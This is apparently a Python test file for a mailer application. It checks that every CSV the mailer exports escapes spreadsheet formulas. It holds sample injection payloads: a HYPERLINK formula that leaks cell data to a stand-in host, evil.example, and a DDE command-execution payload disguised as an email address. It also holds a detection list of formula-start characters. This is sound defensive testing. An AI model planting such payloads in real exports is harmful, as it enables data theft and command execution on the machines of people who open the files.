"""Issue 15, item 5: no spreadsheet formula in any CSV the mailer writes."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import httpx
from hypothesis import given
from hypothesis import strategies as st

from mailer import csvsafe
from mailer.blasts import create_blast, send_now
from mailer.store import open_database
from mailer.store.models import utcnow
from mailer.supporters.importer import Reject, write_rejects
from mailer.supporters.suppression import suppress_address
from tests.admin_helpers import add_users, serve, sign_in
from tests.conftest import make_settings
from tests.factories import Person, add_people
from tests.smtpserver import SmtpTestServer
from tests.test_cli import mailer, write_config

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
EVIL_ADDRESS = "=cmd|'/Ccalc'!A0@example.org"
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def dangerous(value: str) -> bool:
    return value.lstrip(" \t\r\n").startswith(STARTS) or value.startswith(STARTS)


@given(st.text(alphabet=st.sampled_from([*STARTS, " ", "a", "1", "|", "'"]), max_size=12))
def test_a_cell_never_starts_a_formula_and_keeps_its_text(value: str) -> None:
    safe = csvsafe.cell(value)
    assert not dangerous(safe)
    assert safe in (value, "'" + value)


@given(st.one_of(st.integers(), st.none(), st.floats(allow_nan=False)))
def test_values_that_are_not_text_are_left_alone(value: object) -> None:
    assert csvsafe.cell(value) == value


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_every_csv_we_write_is_safe(tmp_path: Path, smtp_server: SmtpTestServer) -> None:
    config = write_config(tmp_path, smtp_server.port)
    settings = make_settings(smtp_port=smtp_server.port)
    db = open_database(f"sqlite:///{tmp_path / 'm.db'}", create=True)
    try:
        add_people(db, "members", [Person(EVIL_ADDRESS), Person("ok@example.org")])
        smtp_server.handler.refuse[EVIL_ADDRESS] = f"550 {FORMULA}"
        smtp_server.handler.refuse["ok@example.org"] = "550 -2+3 no"
        blast = create_blast(
            db, settings, name="alert", template="executive-orders", list_names=["members"]
        )
        assert blast.id is not None
        send_now(db, settings, blast.id)
        with db.session() as session:
            suppress_address(session, "+1@example.org", reason="@x", actor="t", now=utcnow())
        add_users(db)
        with serve(db, settings) as url, httpx.Client(base_url=url) as client:
            sign_in(client, "viewer")
            web = client.get(f"/admin/blasts/{blast.id}/log.csv")
        assert web.status_code == 200
        rejects = tmp_path / "rejects.csv"
        write_rejects([Reject(2, "email: invalid", {"email": "x", "first_name": FORMULA})], rejects)
    finally:
        db.dispose()
    cli_log = mailer(tmp_path, "log", "alert", "--csv", config=config)
    exported = mailer(tmp_path, "suppress", "export", config=config)
    assert cli_log.returncode == 0 and exported.returncode == 0, cli_log.stderr + exported.stderr
    outputs = {
        "web log": web.text,
        "cli log": cli_log.stdout,
        "suppressions": exported.stdout,
        "rejects": rejects.read_text(encoding="utf-8-sig"),
    }
    for name, text in outputs.items():
        found = [c for c in cells(text) if dangerous(c)]
        assert found == [], (name, found)
    assert "'" + FORMULA in cells(web.text) and "'" + EVIL_ADDRESS in cells(cli_log.stdout)
    assert "'+1@example.org" in cells(exported.stdout)
